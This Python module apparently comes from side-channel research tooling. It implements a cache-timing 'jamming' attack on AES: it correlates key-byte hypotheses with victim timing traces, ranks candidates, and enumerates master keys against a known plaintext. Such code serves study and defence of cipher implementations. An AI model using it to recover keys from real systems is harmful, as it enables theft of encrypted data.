import logging
from dataclasses import dataclass
from typing import List, Optional, Tuple

import numpy as np
from tqdm import tqdm

from ciphers import AES_SBOX, aes_ct_batch, aes_key_schedule, aes_recover_master_key
from rawjam_analysis import (
    HypothesisMatrix,
    RankReport,
    correlate_candidates,
    enumerate_keys,
    rank_candidates,
    rank_history,
)
from rawjam_config import CIPHER_AES_CT, DEFAULT_JAM_WORD, ENUMERATION_BUDGET, WORD_SIZE, WORDS_PER_TABLE
from rawjam_leakage import TraceSet
from rawjam_util import DomainError, check_jam_word

log = logging.getLogger(__name__)

KEY_CANDIDATES = 256


@dataclass(frozen=True)
class AesAttackConfig:
    jam_word: int = DEFAULT_JAM_WORD
    checkpoints: Tuple[int, ...] = ()

    def __post_init__(self):
        check_jam_word(self.jam_word, WORDS_PER_TABLE)


def predict_access(c_byte: int, k_guess: int, jam_word: int) -> int:
    """
    1 when the last-round lookup behind ciphertext byte `c_byte` falls in the
    jammed word under key guess `k_guess`.
    """
    check_jam_word(jam_word, WORDS_PER_TABLE)
    return int(AES_SBOX.inverse[c_byte ^ k_guess] // WORD_SIZE == jam_word)


def hypothesis_table(jam_word: int) -> np.ndarray:
    """
    (256, 256) table of predict_access indexed by [ciphertext byte, key guess].
    """
    check_jam_word(jam_word, WORDS_PER_TABLE)
    v = np.arange(256)
    index = AES_SBOX.inverse[np.bitwise_xor.outer(v, np.arange(KEY_CANDIDATES))]
    return (index // WORD_SIZE == jam_word).astype(np.uint8)


def build_hypothesis(ts: TraceSet, byte_pos: int, jam_word: int = DEFAULT_JAM_WORD) -> HypothesisMatrix:
    if ts.cipher_id != CIPHER_AES_CT:
        raise DomainError(f"AES attack needs an `{CIPHER_AES_CT}` trace set, got `{ts.cipher_id}`")
    if not 0 <= byte_pos < 16:
        raise DomainError(f"byte position `{byte_pos}` outside [0, 15]")
    return HypothesisMatrix.grouped(hypothesis_table(jam_word), ts.ciphertexts[:, byte_pos])


def _attack_once(ts: TraceSet, cfg: AesAttackConfig, round10_key: Optional[bytes], progress: bool) -> RankReport:
    if ts.count < 2 or np.ptp(ts.times) == 0:
        raise DomainError("time vector is degenerate, nothing to correlate")
    rankings = []
    for pos in tqdm(range(16), desc="aes bytes", disable=not progress):
        values, degenerate = correlate_candidates(build_hypothesis(ts, pos, cfg.jam_word), ts.times)
        true = None if round10_key is None else round10_key[pos]
        rankings.append(rank_candidates(values, true, degenerate, position=pos))
    return RankReport(rankings, ts.count)


def attack(
    ts: TraceSet, cfg: AesAttackConfig = AesAttackConfig(), true_key: Optional[bytes] = None, progress: bool = False
) -> RankReport:
    """
    Correlates every last-round key byte against the victim times.
    `true_key` is the master key; ranks are reported for its last round key.
    """
    if ts.count == 0:
        raise DomainError("cannot attack an empty trace set")
    round10_key = None if true_key is None else aes_key_schedule(true_key)[-1]
    if cfg.checkpoints:
        return rank_history(ts, lambda t: _attack_once(t, cfg, round10_key, progress), cfg.checkpoints)
    return _attack_once(ts, cfg, round10_key, progress)


def recovered_round_key(report: RankReport) -> bytes:
    return bytes(report.best())


def recovered_master_key(report: RankReport) -> bytes:
    return aes_recover_master_key(recovered_round_key(report))


def encrypts_to(master_key: bytes, plaintext: bytes, ciphertext: bytes) -> bool:
    pt = np.frombuffer(plaintext, dtype=np.uint8).reshape(1, 16)
    ct, _ = aes_ct_batch(master_key, pt)
    return bytes(ct[0]) == bytes(ciphertext)


def search_master_key(ts: TraceSet, report: RankReport, budget: int = ENUMERATION_BUDGET) -> Optional[bytes]:
    """
    Enumerates last-round keys by summed rank and returns the first master key
    that maps the known plaintext of record 0 onto its ciphertext.
    """
    if ts.known_plaintext is None:
        raise DomainError("key search needs the known plaintext of record 0")
    pt, ct = ts.known_plaintext, bytes(ts.ciphertexts[0])

    def verify(candidate: List[int]) -> bool:
        return encrypts_to(aes_recover_master_key(bytes(candidate)), pt, ct)

    found = enumerate_keys(report, verify, budget)
    return None if found is None else aes_recover_master_key(bytes(found))
